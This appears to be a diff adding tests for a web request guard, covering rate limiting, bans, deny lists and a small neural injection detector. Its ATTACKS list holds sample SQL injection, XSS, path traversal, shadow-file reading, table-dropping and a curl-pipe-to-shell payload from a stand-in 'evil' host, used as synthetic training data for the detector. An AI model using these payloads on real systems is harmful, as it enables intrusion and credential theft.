@@ -1,0 +1,156 @@
+"""The guard's decisions with a fake clock, its bounded memory, and its detector end to end on a
+small synthetic set (trained in seconds, scored in numpy exactly as torch scores it)."""
+
+from __future__ import annotations
+
+import random
+
+import numpy as np
+import pytest
+import torch
+
+from webtorch.guard.clients import ClientTable
+from webtorch.guard.core import ALLOW, BLOCK, THROTTLE, Guard, GuardSettings
+from webtorch.guard.detector import GuardNet, Scorer
+from webtorch.guard.features import RequestView, normalise
+from webtorch.guard.train import Example, _batch, encode_all, fit, predict
+
+UA = (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0")
+
+
+def get(path: str = "/", query: str = "") -> RequestView:
+    return RequestView("GET", path, query, [(b"host", b"shop"), UA, (b"accept", b"text/html")])
+
+
+def test_normalise_undoes_double_encoding_and_case() -> None:
+    assert normalise(b"%2527%20UNION+SELECT") == b"' union select"
+
+
+def test_token_bucket_throttles_past_the_burst_and_refills() -> None:
+    guard = Guard(GuardSettings(rate=10, burst=5))
+    decisions = [guard.check(get(), "10.0.0.1", 100.0) for _ in range(6)]
+    assert [d.action for d in decisions] == [ALLOW] * 5 + [THROTTLE]
+    assert decisions[-1].reason == "rate_limit"
+    assert decisions[-1].retry_after == pytest.approx(0.1)
+    assert guard.check(get(), "10.0.0.2", 100.0).action == ALLOW  # buckets are per client
+    assert guard.check(get(), "10.0.0.1", 100.1).action == ALLOW  # one token back after 0.1 s
+    assert guard.check(get(), "10.0.0.1", 100.1).action == THROTTLE
+
+
+def test_lists_bans_and_connection_caps() -> None:
+    settings = GuardSettings(allow=["10.1.0.0/16"], deny=["192.0.2.0/24"], max_connections=2)
+    guard = Guard(settings)
+    assert guard.check(get(), "192.0.2.7", 0.0).reason == "deny_list"
+    assert guard.check(get(), "10.1.2.3", 0.0).reason == "allow_list"
+    assert [guard.connect("10.9.9.9", 0.0).action for _ in range(3)] == [ALLOW, ALLOW, THROTTLE]
+    guard.disconnect("10.9.9.9")
+    assert guard.connect("10.9.9.9", 0.0).action == ALLOW
+    assert guard.connect("192.0.2.1", 0.0).action == BLOCK
+    assert guard.connect("10.1.0.1", 0.0).reason == "allow_list"  # never capped
+
+
+def test_a_block_bans_until_the_ban_expires() -> None:
+    guard = Guard(GuardSettings(ban_seconds=30), scorer=_AlwaysInjection())
+    first = guard.check(get(), "10.0.0.5", 0.0)
+    assert (first.action, first.reason) == (BLOCK, "injection")
+    guard.scorer = None
+    assert guard.check(get(), "10.0.0.5", 29.0).reason == "banned"
+    assert guard.connect("10.0.0.5", 29.0).reason == "banned"
+    assert guard.check(get(), "10.0.0.5", 30.0).action == ALLOW
+    assert guard.stats.decisions[(BLOCK, "banned")] == 2
+
+
+def test_monitor_mode_decides_but_lets_through() -> None:
+    guard = Guard(GuardSettings(mode="monitor", ban_seconds=30), scorer=_AlwaysInjection())
+    decision = guard.check(get(), "10.0.0.5", 0.0)
+    assert decision.action == BLOCK and not decision.enforced and not decision.refused
+    assert guard.bans == {}  # nobody is banned by a guard that only watches
+
+
+def test_client_memory_is_bounded_under_ip_churn() -> None:
+    table = ClientTable(max_clients=1000)
+    for i in range(100_000):
+        table.get(f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}", float(i))
+    assert len(table) == 1000 and table.evicted == 99_000
+    guard = Guard(GuardSettings(max_clients=500, rate=5))
+    for i in range(20_000):
+        guard.check(get(), f"172.16.{i >> 8 & 255}.{i & 255}", 0.0)
+    assert len(guard.clients) == 500
+
+
+def test_client_history_sees_a_flood() -> None:
+    table = ClientTable()
+    calm, flood = table.get("a", 0.0), table.get("b", 0.0)
+    for i in range(10):
+        calm.arrive("/", i * 5.0)
+    for i in range(500):
+        flood.arrive(f"/{i % 50}", 45.0 + i * 0.002)
+    calm_f, flood_f = calm.features(46.0), flood.features(46.0)
+    assert flood_f[0] > calm_f[0] + 3  # log rate over 1 s
+    assert flood_f[7] > calm_f[7]  # distinct paths
+
+
+class _AlwaysInjection(Scorer):
+    def __init__(self) -> None:
+        pass
+
+    def score_one(self, view: RequestView, client: list[float]) -> tuple[float, float]:
+        return 0.99, 0.0
+
+
+ATTACKS = [
+    "1' OR '1'='1",
+    "' UNION SELECT username, password FROM users--",
+    "<script>alert(document.cookie)</script>",
+    "../../../../etc/passwd",
+    "; cat /etc/shadow",
+    '"><img src=x onerror=alert(1)>',
+    "1; DROP TABLE orders--",
+    "$(curl http://evil/x.sh|sh)",
+]
+WORDS = ["shoes", "red dress", "o'brien", "union jack flag", "select wine", "café au lait"]
+
+
+def synthetic(rng: random.Random, n: int) -> list[Example]:
+    examples = []
+    for _ in range(n):
+        attack = rng.random() < 0.3
+        value = rng.choice(ATTACKS) if attack else rng.choice(WORDS) + f" {rng.randint(1, 99)}"
+        view = get("/search", "q=" + value.replace(" ", "+"))
+        examples.append(Example(view, [0.0] * 9, float(attack), 0.0))
+    return examples
+
+
+def test_detector_learns_injection_and_numpy_scores_as_torch_does() -> None:
+    rng = random.Random(1)
+    train = encode_all(synthetic(rng, 1500))
+    net = fit(train, epochs=3)
+    test_examples = synthetic(rng, 300)
+    probabilities = predict(net, encode_all(test_examples))[:, 0]
+    labels = np.array([e.injection for e in test_examples])
+    assert probabilities[labels == 1].min() > 0.5 > probabilities[labels == 0].max()
+    scorer = Scorer.from_net(net)
+    for example in test_examples[:20]:
+        ids, offsets, numeric, _ = _batch(encode_all([example]))
+        with torch.no_grad():
+            expected = torch.sigmoid(net(ids, offsets, numeric))[0].numpy()
+        assert scorer.score_one(example.view, list(example.client)) == pytest.approx(
+            expected.tolist(),
+            abs=1e-4,  # float32 sums in another order
+        )
+
+
+def test_saved_weights_score_the_same(tmp_path: object) -> None:
+    from pathlib import Path
+
+    from webtorch.guard.detector import load_net, save
+
+    net = GuardNet()
+    path = Path(str(tmp_path)) / "guard.safetensors"
+    save(net, path)
+    view = get("/search", "q=1'+or+'1'='1")
+    assert Scorer.from_file(path).score_one(view, [0.0] * 9) == pytest.approx(
+        Scorer.from_net(net).score_one(view, [0.0] * 9),
+        abs=1e-3,  # the file's float16 embedding
+    )
+    assert load_net(path).state_dict().keys() == net.state_dict().keys()
